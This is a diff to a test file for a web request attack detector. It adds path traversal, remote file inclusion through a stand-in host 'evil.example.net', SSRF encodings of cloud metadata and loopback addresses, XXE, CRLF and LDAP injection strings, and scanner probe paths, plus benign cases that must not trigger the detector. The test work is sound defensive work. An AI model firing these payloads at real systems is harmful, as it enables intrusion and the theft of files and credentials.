@@ -88,6 +88,16 @@ const ATTACKS: Array<[string, AttackClass, Where, string]> = [
   ['..2f where a filter ate the %', 'ptrav', 'q', '..2f..2f..2fetc2fpasswd'],
   ['a system file as the whole value', 'ptrav', 'q', encodeURIComponent('/proc/partitions')],
   ['a Windows server file', 'ptrav', 'q', encodeURIComponent('c:\\xampp\\apache\\conf\\httpd.conf')],
+  ['junk character between the dots', 'ptrav', 'q', '%2F..%uEFC8..%uEFC8etc%2Fpasswd'],
+  ['an escape no decoder takes, after the dots', 'ptrav', 'q', '%2F..%25c0%259v..%2F..%2F'],
+  ['every %2f eaten by a filter', 'ptrav', 'q', '..2fapache2flogs2faccess.log'],
+  ['one level up to a hidden file', 'ptrav', 'q', '..%2F.htpasswd'],
+  ['a shell history in root', 'ptrav', 'q', encodeURIComponent('/root/.bash_history')],
+  ['a drive letter without its slash', 'ptrav', 'q', 'c:WINDOWS/system32/'],
+  ['PHP configuration by absolute path', 'ptrav', 'form', 'f=' + encodeURIComponent('/php5\\php.ini')],
+  ['kernel objects', 'ptrav', 'q', encodeURIComponent('/sys/class/net')],
+  ['remote file with its suffix cut by ?', 'ptrav', 'path', '/inc/header.php?mainpath=http://evil.example.net/shell.txt?'],
+  ['remote file with ?? and a command', 'ptrav', 'q', encodeURIComponent('http://evil.example.net/shell.txt??&cmd=id')],
   // 8. XXE without SYSTEM, and DOCTYPE in JSON.
   [
     'entity expansion bomb',
@@ -96,11 +106,53 @@ const ATTACKS: Array<[string, AttackClass, Where, string]> = [
     '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
   ],
   ['DOCTYPE in a JSON string', 'xxe', 'json', '{"doc":"<!DOCTYPE d [<!ENTITY e \\"x\\">]><d>&e;</d>"}'],
+  [
+    'DOCTYPE in a query value',
+    'xxe',
+    'q',
+    encodeURIComponent('<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><r>&b;</r>'),
+  ],
+  // SSRF: internal addresses in every notation, odd schemes.
+  ['scheme without slashes', 'ssrf', 'q', 'http%3A127.0.0.1'],
+  ['IPv4-mapped metadata address, long form', 'ssrf', 'q', encodeURIComponent('http://[0:0:0:0:0:ffff:a9fe:a9fe]/')],
+  ['IPv4-compatible metadata address', 'ssrf', 'q', encodeURIComponent('http://[0:0:0:0:0:0:169.254.169.254]/')],
+  ['decimal beyond 32 bits', 'ssrf', 'q', encodeURIComponent('http://7147006462/')],
+  ['hex beyond 32 bits', 'ssrf', 'q', encodeURIComponent('http://0x41414141A9FEA9FE/')],
+  ['ideographic full stops', 'ssrf', 'q', encodeURIComponent('http://169\u3002254\u3002169\u3002254/')],
+  ['backslashes inside the host', 'ssrf', 'q', encodeURIComponent('http://\\l\\o\\c\\a\\l\\h\\o\\s\\t/')],
+  [
+    'an internal host after a second @',
+    'ssrf',
+    'q',
+    encodeURIComponent('http://good.example:80 &@good.example:80# @127.88.23.245:22/'),
+  ],
+  ['container host without a scheme', 'ssrf', 'q', encodeURIComponent('host.docker.internal/admin')],
+  ['loopback in octal', 'ssrf', 'form', 'host=0177.0.0.1'],
+  ['loopback in hex parts', 'ssrf', 'json', '{"host":"0x7f.0x0.0x0.0x1"}'],
+  ['short loopback', 'ssrf', 'q', '127.1'],
+  ['IPv6 loopback', 'ssrf', 'q', encodeURIComponent('::1')],
+  ['rsync scheme', 'ssrf', 'q', encodeURIComponent('rsync://[0:0:0:0:0:ffff:169.254.169.254]/')],
+  ['Oracle Cloud metadata', 'ssrf', 'q', encodeURIComponent('http://192.0.0.192/latest/')],
+  // CRLF where it reaches a header.
+  ['a line break in the path', 'crlf', 'path', '/index.php/PHP%0Ainfo.php'],
+  ['a line break in a parameter name', 'crlf', 'path', '/get?parameter%0d%0a=test'],
+  ['a parameter written after a break', 'crlf', 'q', 'test%0Dnext=more'],
+  // LDAP filters broken out of.
+  ['closed, NOT, new assertion', 'ldapi', 'form', 'foo=x)!(sn=*'],
+  ['closed, AND, new assertion', 'ldapi', 'q', 'val)%26(cn%3Dadmin'],
+  ['closed then an open OR at the end', 'ldapi', 'q', 'admin)(|'],
+  ['a whole filter with a constant assertion', 'ldapi', 'q', encodeURIComponent('(&(uid=admin)(!(&(1=0)(userPassword=q))))')],
   // 9. Backup files, consoles, known exploits.
   ['backup of a JSP', 'scanner', 'path', '/index.jsp.Bak'],
   ['editor copy', 'scanner', 'path', '/config.php~'],
   ['ColdFusion administrator', 'scanner', 'path', '/CFIDE/administrator/'],
   ['JBoss JMX console', 'scanner', 'path', '/jmx-console/HtmlAdaptor'],
+  ['a coding assistant settings file', 'scanner', 'path', '/.claude/settings.json'],
+  ['a Subversion checkout', 'scanner', 'path', '/app/.svn/wc.db'],
+  ['macOS folder metadata', 'scanner', 'path', '/images/.DS_Store'],
+  ['an archived SQL dump', 'scanner', 'path', '/backup.sql.zip'],
+  ['a debug log', 'scanner', 'path', '/wp-content/debug.log'],
+  ['Go profiling', 'scanner', 'path', '/debug/pprof/goroutine?debug=1'],
   ['OGNL concatenated into a string', 'rce', 'q', '\\u0027%2B{233*233}%2B\\u0027'],
   // 10. NUL bytes.
   ['NUL in a parameter', 'ptrav', 'q', '%00'],
@@ -149,6 +201,24 @@ const BENIGN: Array<[string, Where, string]> = [
   ['a relative link under /php', 'path', '/login?next=%2Fphp%2Fmanual'],
   ['an old report', 'path', '/files/report.old.pdf'],
   ['a manager dashboard', 'path', '/manager/dashboard'],
+  ['RFC 8615 well-known URI', 'path', '/.well-known/openid-configuration'],
+  ['a Netlify function', 'path', '/.netlify/functions/subscribe'],
+  ['a link ending in an empty query', 'path', '/login?next=https%3A%2F%2Fshop.partner.example%2Fcart%3F'],
+  ['a login url parameter', 'path', '/login?url=https%3A%2F%2Fportal.partner.example%2Fhome'],
+  ['next on a login page', 'path', '/sso/login?next=https%3A%2F%2Fapp.partner.example%2Fdashboard'],
+  ['a version number', 'q', '10.1'],
+  ['a price', 'q', '0.05'],
+  ['a private address in a settings form', 'form', 'gateway=192.168.1.1&dns=10.0.0.53'],
+  ['a date with slashes', 'json', '{"due":"15/01/2024"}'],
+  ['an id and a base64 tail', 'q', encodeURIComponent('2/1JzYh6glEEVrNB6zlia7d4pcI=')],
+  [
+    'a directory search filter',
+    'form',
+    'filter=' + encodeURIComponent('(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))'),
+  ],
+  ['a multi-line message in a query', 'q', encodeURIComponent('Hello,\r\nSubject: our meeting\r\nThanks')],
+  ['a user document path', 'form', 'file=' + encodeURIComponent('/home/alice/reports/2024.pdf')],
+  ['a relative image path with one level up', 'q', encodeURIComponent('../images/logo.png')],
   ['sleep in a sentence', 'q', encodeURIComponent("I'll sleep(8 hours) tonight")],
   [
     'a function in a form field',
@@ -168,6 +238,18 @@ for (const [name, cls, where, v] of ATTACKS) {
 for (const [name, where, v] of BENIGN) {
   test(`benign: ${name}`, () => assert.deepEqual(classes(where, v), [], `${where} ${v}`));
 }
+
+test('ptrav: one level up in an uploaded file name', () => {
+  const body =
+    '--b\r\nContent-Disposition: form-data; name="file"; filename="..\\1.7z"\r\nContent-Type: application/octet-stream\r\n\r\nxx\r\n--b--\r\n';
+  const r = detector.detect(
+    tx({ method: 'POST', target: '/upload', headers: [HOST, ['Content-Type', 'multipart/form-data; boundary=b']], body }),
+  );
+  assert.deepEqual(
+    r?.hits.map((h) => [h.class, h.point.join('.')]),
+    [['ptrav', 'multipart.file.filename']],
+  );
+});
 
 test('a known exploit request names its CVE', () => {
   const r = detector.detect(tx({ target: '/wp-content/plugins/sourceafrica/js/window.php?wpbase=x' }));
